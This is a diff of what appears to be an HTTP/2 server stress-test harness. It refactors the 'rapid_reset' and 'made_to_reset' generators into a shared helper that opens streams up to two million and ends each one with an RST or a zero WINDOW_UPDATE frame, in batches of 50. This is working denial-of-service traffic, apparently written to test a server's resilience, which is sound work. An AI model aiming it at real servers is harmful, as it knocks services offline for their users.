@@ -208,30 +208,27 @@ def head_bomb(port):
         stream += 2
 
 
-def rapid_reset(port):
-    """Streams that are opened and reset at once."""
+def opened_for_nothing(port, kind, payload):
+    """Streams that are opened, each with one frame after it that ends it."""
     client = Client(port)
     yield client
     stream = 1
     while stream < 2_000_000:
         part = b""
         for _ in range(50):
-            part += client.get(stream, "/large") + frame(RST, 0, stream, (8).to_bytes(4, "big"))
+            part += client.get(stream, "/large") + frame(kind, 0, stream, payload)
             stream += 2
         client.send(part)
+
+
+def rapid_reset(port):
+    """Streams that are opened and reset at once."""
+    return opened_for_nothing(port, RST, (8).to_bytes(4, "big"))
 
 
 def made_to_reset(port):
     """Streams that the server itself has to reset: each gets a window update of nothing."""
-    client = Client(port)
-    yield client
-    stream = 1
-    while stream < 2_000_000:
-        part = b""
-        for _ in range(50):
-            part += client.get(stream, "/large") + frame(WINDOW, 0, stream, b"\0\0\0\0")
-            stream += 2
-        client.send(part)
+    return opened_for_nothing(port, WINDOW, b"\0\0\0\0")
 
 
 def flood(port, data, times=1_000_000):
